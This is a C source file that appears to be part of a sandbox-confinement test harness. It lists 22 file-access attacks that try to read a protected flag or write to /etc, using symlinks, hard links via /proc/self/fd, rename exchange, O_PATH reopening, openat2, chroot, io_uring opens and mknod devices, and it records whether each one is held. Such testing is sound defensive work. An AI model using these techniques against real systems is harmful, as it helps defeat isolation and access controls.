/* Attacks on files: other names, other calls, other roots. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static void read_secret(void) { open_goal(SECRET); }

static void read_volume(void) { open_goal(VAULT); }

static void write_etc(void) {
    int fd = open("/etc/attacked", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0)
        held();
    unlink("/etc/attacked");
    won();
}

static void list_secret(void) {
    DIR *directory = opendir("/secret");
    if (!directory)
        held();
    for (struct dirent *entry; (entry = readdir(directory));)
        if (!strcmp(entry->d_name, "flag"))
            won();
    broken("the flag is not listed");
}

static void truncate_secret(void) {
    if (truncate("/secret/long", 1))
        held();
    if (truncate("/secret/long", 64))
        broken("not put back");
    won();
}

static void unlink_secret(void) {
    if (unlink("/secret/spare"))
        held();
    if (creat("/secret/spare", 0644) < 0)
        broken("not put back");
    won();
}

static void dot_dot(void) { open_goal("/tmp/../secret/flag"); }

static void working_directory(void) {
    if (chdir("/secret"))
        held();
    open_goal("flag");
}

static void symlinks(void) {
    unlink("/tmp/to-flag");
    unlink("/tmp/to-root");
    if (symlink(SECRET, "/tmp/to-flag") || symlink("/", "/tmp/to-root"))
        broken("no links in /tmp");
    int fd = open("/tmp/to-flag", O_RDONLY | O_CLOEXEC);
    if (fd >= 0)
        read_goal(fd);
    open_goal("/tmp/to-root/secret/flag");
}

static void hard_link(void) {
    unlink("/tmp/linked");
    if (linkat(AT_FDCWD, SECRET, AT_FDCWD, "/tmp/linked", 0))
        held();
    open_goal("/tmp/linked");
}

static void hard_link_descriptor(void) {
    int fd = open(SECRET, O_PATH | O_CLOEXEC);
    if (fd < 0)
        held();
    char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    unlink("/tmp/linked-fd");
    if (linkat(AT_FDCWD, name, AT_FDCWD, "/tmp/linked-fd", AT_SYMLINK_FOLLOW))
        held();
    open_goal("/tmp/linked-fd");
}

static void rename_across(void) {
    if (rename(SECRET, "/tmp/renamed"))
        held();
    int fd = open("/tmp/renamed", O_RDONLY | O_CLOEXEC);
    if (rename("/tmp/renamed", SECRET))
        broken("not put back");
    if (fd < 0)
        held();
    read_goal(fd);
}

static void rename_exchange(void) {
    int placeholder = creat("/tmp/exchanged", 0644);
    if (placeholder < 0)
        broken("no file in /tmp");
    if (renameat2(AT_FDCWD, SECRET, AT_FDCWD, "/tmp/exchanged", RENAME_EXCHANGE))
        held();
    int fd = open("/tmp/exchanged", O_RDONLY | O_CLOEXEC);
    if (renameat2(AT_FDCWD, SECRET, AT_FDCWD, "/tmp/exchanged", RENAME_EXCHANGE))
        broken("not put back");
    if (fd < 0)
        held();
    read_goal(fd);
}

static void opath_reopen(void) {
    int fd = open(SECRET, O_PATH | O_CLOEXEC);
    if (fd < 0)
        held();
    char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    open_goal(name);
}

static void opath_directory(void) {
    int fd = open("/secret", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        held();
    open_goal_at(fd, "flag");
}

static void proc_self_root(void) {
    int fd = open("/proc/self/root/secret/flag", O_RDONLY | O_CLOEXEC);
    if (fd >= 0)
        read_goal(fd);
    open_goal("/proc/thread-self/cwd/../../../../secret/flag");
}

static void openat2_with(__u64 resolve, const char *path) {
    struct open_how how = {.flags = O_RDONLY | O_CLOEXEC, .resolve = resolve};
    int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    int fd = syscall(SYS_openat2, root, path, &how, sizeof how);
    if (fd >= 0)
        read_goal(fd);
}

static void openat2_in_root(void) {
    openat2_with(RESOLVE_IN_ROOT, "../../secret/flag");
    openat2_with(RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS, "secret/flag");
    openat2_with(RESOLVE_CACHED, "secret/flag");
    openat2_with(RESOLVE_IN_ROOT, "/secret/flag");
    held();
}

static void chroot_secret(void) {
    if (chroot("/secret"))
        not_here("chroot is not permitted");
    open_goal("/flag");
}

/* Opens through a ring, so that a worker of the kernel resolves the path. `flags` may ask for a polling thread. */
static void open_through_ring(unsigned flags) {
    struct io_uring_params params = {.flags = flags, .sq_thread_idle = 100};
    int ring = syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0)
        not_here("no io_uring");
    size_t size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    char *rings = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, 4 * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                                        ring, IORING_OFF_SQES);
    if (rings == MAP_FAILED || entries == MAP_FAILED)
        broken("the ring cannot be mapped");
    entries[0] = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (unsigned long)SECRET,
                                       .open_flags = O_RDONLY | O_CLOEXEC, .flags = IOSQE_ASYNC};
    unsigned *array = (unsigned *)(rings + params.sq_off.array);
    unsigned *tail = (unsigned *)(rings + params.sq_off.tail);
    array[0] = 0;
    __atomic_store_n(tail, 1, __ATOMIC_RELEASE);
    unsigned enter = IORING_ENTER_GETEVENTS | (flags & IORING_SETUP_SQPOLL ? IORING_ENTER_SQ_WAKEUP : 0);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, enter, NULL, 0) < 0)
        broken("the ring does not take the request");
    struct io_uring_cqe *done = (struct io_uring_cqe *)(rings + params.cq_off.cqes);
    errno = done->res < 0 ? -done->res : 0;
    if (done->res < 0)
        held();
    read_goal(done->res);
}

static void io_uring_open(void) { open_through_ring(0); }
static void io_uring_poll(void) { open_through_ring(IORING_SETUP_SQPOLL); }

static void make_device(mode_t kind, dev_t device) {
    const char *path = "/tmp/device";
    unlink(path);
    if (mknod(path, kind | 0600, device)) {
        if (errno == EPERM)
            not_here("mknod is not permitted");
        held();
    }
    unlink(path);
    won();
}

static void mknod_block(void) {
    FILE *table = fopen("/proc/partitions", "r");
    unsigned major_number = 8, minor_number = 0;
    char line[256];
    while (table && fgets(line, sizeof line, table))
        if (sscanf(line, " %u %u", &major_number, &minor_number) == 2)
            break;
    make_device(S_IFBLK, makedev(major_number, minor_number));
}

static void mknod_memory(void) { make_device(S_IFCHR, makedev(1, 1)); }

const struct attack file_attacks[] = {
    {"read-secret", read_secret},
    {"read-volume", read_volume},
    {"write-etc", write_etc},
    {"list-secret", list_secret},
    {"truncate-secret", truncate_secret},
    {"unlink-secret", unlink_secret},
    {"dot-dot", dot_dot},
    {"working-directory", working_directory},
    {"symlinks", symlinks},
    {"hard-link", hard_link},
    {"hard-link-descriptor", hard_link_descriptor},
    {"rename-across", rename_across},
    {"rename-exchange", rename_exchange},
    {"opath-reopen", opath_reopen},
    {"opath-directory", opath_directory},
    {"proc-self-root", proc_self_root},
    {"openat2-in-root", openat2_in_root},
    {"chroot", chroot_secret},
    {"io-uring-open", io_uring_open},
    {"io-uring-poll", io_uring_poll},
    {"mknod-block", mknod_block},
    {"mknod-memory", mknod_memory},
    {NULL, NULL},
};
